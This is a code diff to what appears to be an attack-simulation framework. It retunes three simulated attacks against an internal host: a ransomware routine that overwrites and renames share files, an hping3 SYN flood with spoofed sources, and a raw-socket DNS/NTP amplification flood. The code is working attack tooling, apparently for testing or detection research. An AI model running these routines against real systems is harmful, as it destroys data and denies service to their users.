@@ -14,15 +14,16 @@ _RAW_BYTES = 20
 
 @attack("ransomware")
 def ransomware(w: Work, intensity: str) -> None:
-    """Files of the users' share are read, written again with noise and renamed, over few sessions: 100 at once, 50 in five rounds, or
-    24 in six with long pauses."""
-    count, rounds, period = by(intensity, (100, 2, 16), (50, 5, 100), (24, 6, 400))
+    """Files of the users' share are read, written again with noise and renamed, over few sessions: 100 in four rounds, 50 in five slower ones,
+    or 24 in six with long pauses."""
+    count, rounds, period = by(intensity, (100, 4, 96), (50, 5, 100), (24, 6, 400))
     files = _files(w)[:count]
     w.log(f"{len(files)} files")
     for turn in turns(w, rounds, period, 0.3):
         share = files[turn % rounds :: rounds]
         if share:
             _encrypt(w, share)
+    w.log(f"{len(_files(w))} files left")
 
 
 def _files(w: Work) -> list[str]:
@@ -51,27 +52,30 @@ def _encrypt(w: Work, paths: list[str]) -> None:
 
 @attack("syn-flood")
 def syn_flood(w: Work, intensity: str) -> None:
-    """SYN segments from made-up sources to the information system's web port (hping3): 2000 at 1000 a second, 1000 at 100, or 300 at
-    10."""
-    count, micros = by(intensity, (2000, 1000), (1000, 10_000), (300, 100_000))
-    w.run("hping3", "-q", "-n", "-S", "-p", 8080, "--rand-source", "-c", count, "-i", f"u{micros}", HOSTS["his"].v4, timeout=60, good=(0, 1))
+    """SYN segments from made-up sources to the information system's web port (hping3): four bursts of 500 at 1000 a second, 1000
+    at 30, or 300 at 5."""
+    bursts, count, rate = by(intensity, (4, 500, 1000), (1, 1000, 30), (1, 300, 5))
+    for _ in turns(w, bursts, 96):
+        w.run("hping3", "-q", "-n", "-S", "-p", 8080, "--rand-source", "-c", count, "-i", f"u{1_000_000 // rate}",
+              HOSTS["his"].v4, timeout=90, good=(0, 1))
 
 
 @attack("udp-amplification")
 def udp_amplification(w: Work, intensity: str) -> None:
-    """Large DNS and NTP answers that nobody asked for come from 40 made-up reflectors to one server: 4000 at 800 a second, 1500 at 100,
-    or 400 at 15."""
-    count, rate = by(intensity, (4000, 800), (1500, 100), (400, 15))
+    """Large DNS and NTP answers that nobody asked for come from 40 made-up reflectors to one server: four bursts of 1000 at 800
+    a second, 1500 at 50, or 400 at 5."""
+    bursts, count, rate = by(intensity, (4, 1000, 800), (1, 1500, 50), (1, 400, 5))
     victim = HOSTS["his"].v4
     # A client's port that nobody listens at; the reflectors' addresses are reserved for documents.
     port = w.rng.randrange(20_000, 30_000)
-    began = time.monotonic()
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
-        for number in range(count):
-            reflector, service = f"198.51.100.{w.rng.randrange(1, 41)}", w.rng.choice((53, 123))
-            raw.sendto(_datagram(reflector, victim, service, port, w.rng.randbytes(w.rng.randrange(440, 1200))), (victim, 0))
-            if not w.pause(max(0.0, began + number / rate - time.monotonic())):
-                return
+        for _ in turns(w, bursts, 96):
+            began = time.monotonic()
+            for number in range(count):
+                reflector, service = f"198.51.100.{w.rng.randrange(1, 41)}", w.rng.choice((53, 123))
+                raw.sendto(_datagram(reflector, victim, service, port, w.rng.randbytes(w.rng.randrange(440, 1200))), (victim, 0))
+                if not w.pause(max(0.0, began + number / rate - time.monotonic())):
+                    return
 
 
 def _datagram(source: str, destination: str, from_port: int, to_port: int, payload: bytes) -> bytes:
